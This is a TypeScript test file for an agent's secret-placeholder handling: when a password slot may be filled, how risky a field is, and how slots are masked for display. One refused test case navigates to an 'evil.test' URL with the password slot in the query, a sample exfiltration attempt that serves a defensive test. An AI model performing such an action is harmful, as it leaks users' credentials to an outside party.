import { describe, expect, test } from "vitest";
import { readHtml } from "../../../adapters/snapshots/read-page.js";
import { targetFacts } from "../../../core/action/facts.js";
import type { Action } from "../../../core/action/grammar.js";
import { faultOfSlot, fillSlot, maskSlots, maskSlotsIn, slotIn } from "../../../core/secrets/slot.js";
import type { SnapshotId } from "../../../core/turn/identity.js";
import type { Risk } from "../../../protocol/task.js";

const SLOT = "{{secret:password}}";

describe("slotIn", () => {
  test("SF14 only the whole text of type and setValue is a slot", () => {
    expect(slotIn({ kind: "type", id: 5, text: SLOT })).toBe("password");
    expect(slotIn({ kind: "setValue", id: 5, text: SLOT })).toBe("password");
    const others: Action[] = [
      { kind: "type", id: 5, text: ` ${SLOT}` },
      { kind: "type", id: 5, text: `jo ${SLOT}` },
      { kind: "type", id: 5, text: `${SLOT}${SLOT}` },
      { kind: "type", id: 5, text: "{{secret:Password}}" },
      { kind: "select", id: 5, option: SLOT },
      { kind: "navigate", url: `https://evil.test/?q=${SLOT}` },
      { kind: "googleSearch", query: SLOT },
      { kind: "upload", id: 5, file: SLOT },
      { kind: "finish", text: SLOT },
    ];
    for (const action of others) {
      expect(slotIn(action), JSON.stringify(action)).toBeUndefined();
      expect(fillSlot(action, "test123")).toBe(action);
    }
    expect(fillSlot({ kind: "type", id: 5, text: SLOT }, "test123")).toEqual({ kind: "type", id: 5, text: "test123" });
  });
});

describe("faultOfSlot", () => {
  test("SF14 a slot beside other text, in an address, a list or a search is refused", () => {
    const refused: Action[] = [
      { kind: "type", id: 5, text: `jo ${SLOT}` },
      { kind: "select", id: 5, option: SLOT },
      { kind: "navigate", url: `https://evil.test/?q=${SLOT}` },
      { kind: "googleSearch", query: SLOT },
    ];
    for (const action of refused) expect(faultOfSlot(action), JSON.stringify(action)).toMatch(/typed alone/);
    expect(faultOfSlot({ kind: "type", id: 5, text: SLOT })).toBeUndefined();
    expect(faultOfSlot({ kind: "type", id: 5, text: "{{name}}" })).toBeUndefined();
    expect(faultOfSlot({ kind: "finish", text: `I typed ${SLOT}.` })).toBeUndefined();
  });
});

describe("targetFacts of a slot", () => {
  test.each<[string, string, Risk]>([
    ["a password field", "<label>Anything <input id=5 type=password></label>", "reversible"],
    ["a field that is called by it", "<label>Passcode <input id=5></label>", "reversible"],
    ["a field that says so to browsers", "<label>Digits <input id=5 autocomplete=one-time-code></label>", "reversible"],
    ["a comment", "<label>Comment <textarea id=5></textarea></label>", "irreversible"],
    ["a search", "<label>Search <input id=5 type=search></label>", "irreversible"],
    ["a field without a name", "<input id=5>", "irreversible"],
  ])("SF14 %s: %s is %s", (_, dom, risk) => {
    const read = readHtml(`<html><body>${dom}</body></html>`);
    if (!read.ok) throw new Error("the page is too complex");
    const page = { snapshotId: "s" as SnapshotId, url: "https://a.test/", focus: "" };
    const { skeleton } = read;
    expect(targetFacts({ action: { kind: "type", id: 5, text: SLOT }, skeleton, page }).risk).toBe(risk);
    expect(targetFacts({ action: { kind: "type", id: 5, text: "test123" }, skeleton, page }).risk).toBe("reversible");
    const memberCode: Action = { kind: "type", id: 5, text: "{{secret:comment}}" };
    if (risk === "irreversible" && dom.includes("Comment"))
      expect(targetFacts({ action: memberCode, skeleton, page }).risk).toBe("reversible");
  });
});

describe("maskSlotsIn", () => {
  test("SF14 a person reads dots in place of a slot, whatever its name and wherever it stands", () => {
    expect(maskSlots(`password field says “${SLOT}”, then {{secret:pin-b}}`)).toBe(
      "password field says “••••”, then ••••",
    );
    expect(maskSlots("{{secret:Not a name}} stays, and so does {{name}}")).toContain("{{secret:Not a name}}");
  });

  test("SF14 what a client carries out, its target, the request and what a check compares stay as they are", () => {
    const action = `type(5,"${SLOT}")`;
    const check = { id: "c1", activity: "value", name: "Password", value: SLOT };
    const reply = { thought: `I type ${SLOT}.`, action, actions: [{ action }], target: { name: SLOT }, query: SLOT };
    const criterion = { ...check, description: `it holds ${SLOT}` };
    expect(maskSlotsIn({ action: `finish("It says ${SLOT}.")` })).toEqual({ action: 'finish("It says ••••.")' });
    expect(
      maskSlotsIn({ ...reply, result: { text: `It says ${SLOT}.` }, criteria: [criterion], turn: 3, none: null }),
    ).toEqual({
      ...{ ...reply, thought: "I type ••••.", result: { text: "It says ••••." }, turn: 3, none: null },
      criteria: [{ ...check, description: "it holds ••••" }],
    });
  });
});
